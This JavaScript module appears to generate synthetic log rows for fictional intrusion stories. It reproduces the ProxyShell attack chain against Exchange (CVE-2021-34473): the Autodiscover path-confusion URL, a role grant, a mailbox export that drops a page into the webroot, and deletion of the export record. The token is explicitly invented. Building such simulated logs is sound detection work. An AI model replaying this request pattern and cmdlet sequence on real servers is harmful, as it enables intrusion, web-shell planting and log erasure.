// What intruders of August 2021 do to a server in these stories, as rows. The token is invented and opens nothing.

import { domain, exchangeRequest, netbios, shellRequest } from './organisation.mjs';
import { tools } from './intruders.mjs';

const decoy = 'fnd.test';
/** The form of a token, with nothing in it that a server would believe. */
const token = 'VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTA5pbnZlbnRlZCBuYW1lVQVTLTEtNQ==';

/** Autodiscover asked with an address that hides a second path (CVE-2021-34473); inside it is what is left of it. */
export function hiddenPathRequest(world, r) {
  const mail = `Email=autodiscover/autodiscover.json%3F@${decoy}`;
  const rest = r.token ? `X-Rps-CAT=${token}&${mail}` : mail;
  const inside = r.status >= 200 && r.status < 300;
  return exchangeRequest(world, {
    ms: r.ms,
    front: world.front[0],
    protocol: 'Autodiscover',
    method: r.method ?? 'POST',
    stem: '/autodiscover/autodiscover.json',
    query: `@${decoy}${r.path}?${r.token ? '' : '&'}${rest}`,
    client: r.client,
    agent: r.agent ?? tools.python,
    status: r.status,
    anchor: `ExplicitLogon-SMTP~autodiscover/autodiscover.json?@${decoy}`,
    hint: 'ExplicitLogon-SMTP',
    backStem: inside ? r.path : undefined,
    backQuery: inside ? rest : undefined,
    backUser: `${netbios}\\${world.front[0].name}$`,
    taken: r.taken,
  });
}

/**
 * The known chain: address book, identity, a message with the page in it, a session of administrators, the role, the export, and
 * the record of the export removed.
 */
export function exportChain(world, { ms, client, page, user }) {
  const { back } = world;
  const ask = (afterMs, more) => hiddenPathRequest(world, { ms: ms + afterMs, client, status: 200, ...more });
  ask(0, { path: '/mapi/nspi/', method: 'GET' });
  ask(1000, { path: '/autodiscover/autodiscover.xml' });
  ask(3000, { path: '/mapi/emsmdb/' });
  ask(4000, { path: '/ews/exchange.asmx' });
  const file = `\\\\127.0.0.1\\C$\\inetpub\\wwwroot${page.replaceAll('/', '\\')}`;
  const cmdlets = [
    [9000, undefined, undefined],
    [12_000, 'New-ManagementRoleAssignment', '-Role "Mailbox Import Export" -User "administrator"'],
    [19_000, 'New-MailboxExportRequest', `-Mailbox "e.dubois@${domain}" -IncludeFolders "#Drafts#" -FilePath "${file}"`],
    [58_000, 'Remove-MailboxExportRequest', '-Identity "*" -Confirm "False"'],
  ];
  for (const [afterMs, cmdlet, parameters] of cmdlets) {
    const asked = ask(afterMs, { path: '/powershell/', token: true, taken: 340 });
    if (asked === undefined) continue;
    shellRequest(world, back, {
      ms: ms + afterMs - 60,
      id: world.random.guid(),
      user,
      sid: 'S-1-5-21-3141592653-271828182-1618033988-500',
      host: back.fqdn,
      client: '10.20.0.11',
      front: world.front[0].fqdn,
      status: 200,
      agent: tools.python,
      query: `X-Rps-CAT=${token}&Email=autodiscover/autodiscover.json%3F@${decoy}`,
      cmdlet,
      parameters,
    });
  }
}
